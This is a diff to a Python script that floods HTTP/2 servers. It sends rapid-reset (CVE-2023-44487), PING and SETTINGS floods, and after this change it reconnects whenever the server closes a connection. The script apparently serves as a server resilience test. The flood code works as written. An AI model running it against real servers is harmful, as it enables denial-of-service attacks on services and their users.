@@ -7,7 +7,8 @@ connections and seconds. Runs under Debian's /usr/bin/python3 (python3-h2).
         --connections 4 --seconds 5 --server-pid PID
 
 Attacks (each connection in a process of its own, reading and discarding
-whatever the server sends, noting a GOAWAY):
+whatever the server sends, noting a GOAWAY; a connection the server closes
+is replaced by a new one until the time is up, as an attacker would):
   rapid-reset   HEADERS then RST_STREAM(CANCEL) on a new stream, over and over
                 (CVE-2023-44487)
   ping          PING frames, as fast as the socket takes them
@@ -108,48 +109,59 @@ def drain(sock: socket.socket, seen: dict) -> None:
 
 
 def flood_connection(attack: str, host: str, port: int, seconds: float, out: mp.Queue) -> None:
-    seen = {"frames_sent": 0, "bytes_received": 0, "closed_by_server": False}
-    try:
-        sock = socket.create_connection((host, port), timeout=5)
-    except OSError as e:
-        out.put({"error": f"connect: {e}", **seen})
-        return
-    sock.settimeout(None)
-    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    reader = threading.Thread(target=drain, args=(sock, seen), daemon=True)
-    reader.start()
+    """Floods one connection at a time for `seconds`; when the server closes
+    it, opens the next one, as an attacker would."""
+    seen = {"frames_sent": 0, "streams_opened": 0, "connections": 0, "bytes_received": 0,
+            "closed_by_server": False}
+    deadline = time.monotonic() + seconds
     block = header_block(f"{host}:{port}", PROBE_PATH)
     batch = 100
-    deadline = time.monotonic() + seconds
-    stream = 1
-    try:
-        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
-        while time.monotonic() < deadline and not seen["closed_by_server"]:
-            if attack == "rapid-reset":
-                chunk = []
-                for _ in range(batch):
-                    chunk.append(frame(HEADERS, END_HEADERS, stream, block))
-                    chunk.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
-                    stream += 2
-                if stream > 0x7FFFFFFF - 2 * batch:
-                    break
-                payload = b"".join(chunk)
-            elif attack == "ping":
-                payload = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(batch))
-            elif attack == "settings":
-                payload = frame(SETTINGS, 0, 0) * batch
-            else:
-                raise ValueError(attack)
-            sock.sendall(payload)
-            seen["frames_sent"] += batch
-    except OSError as e:
-        seen["send_error"] = str(e)
-        seen["closed_by_server"] = True
-    seen["streams_opened"] = (stream - 1) // 2
-    try:
-        sock.close()
-    except OSError:
-        pass
+    while time.monotonic() < deadline:
+        try:
+            sock = socket.create_connection((host, port), timeout=5)
+        except OSError as e:
+            seen["error"] = f"connect: {e}"
+            break
+        seen["connections"] += 1
+        sock.settimeout(None)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        conn_seen = {"bytes_received": 0, "closed_by_server": False}
+        reader = threading.Thread(target=drain, args=(sock, conn_seen), daemon=True)
+        reader.start()
+        stream = 1
+        try:
+            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+            while time.monotonic() < deadline and not conn_seen["closed_by_server"]:
+                if attack == "rapid-reset":
+                    chunk = []
+                    for _ in range(batch):
+                        chunk.append(frame(HEADERS, END_HEADERS, stream, block))
+                        chunk.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+                        stream += 2
+                    if stream > 0x7FFFFFFF - 2 * batch:
+                        break
+                    payload = b"".join(chunk)
+                elif attack == "ping":
+                    payload = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(batch))
+                elif attack == "settings":
+                    payload = frame(SETTINGS, 0, 0) * batch
+                else:
+                    raise ValueError(attack)
+                sock.sendall(payload)
+                seen["frames_sent"] += batch
+        except OSError:
+            conn_seen["closed_by_server"] = True
+        seen["streams_opened"] += (stream - 1) // 2
+        try:
+            sock.close()
+        except OSError:
+            pass
+        reader.join(timeout=1)
+        seen["bytes_received"] += conn_seen["bytes_received"]
+        if conn_seen["closed_by_server"]:
+            seen["closed_by_server"] = True
+            if "goaway" in conn_seen:
+                seen["goaway"] = conn_seen["goaway"]
     out.put(seen)
 
 
@@ -393,6 +405,7 @@ def main() -> int:
         "flood": {
             "frames_sent": sum(f.get("frames_sent", 0) for f in flood),
             "streams_opened": sum(f.get("streams_opened", 0) for f in flood),
+            "connections_opened": sum(f.get("connections", 0) for f in flood),
             "connections_closed_by_server": sum(1 for f in flood if f.get("closed_by_server")),
             "goaway": sorted({json.dumps(f["goaway"], sort_keys=True) for f in flood if "goaway" in f}),
             "errors": sorted({f["error"] for f in flood if "error" in f}),
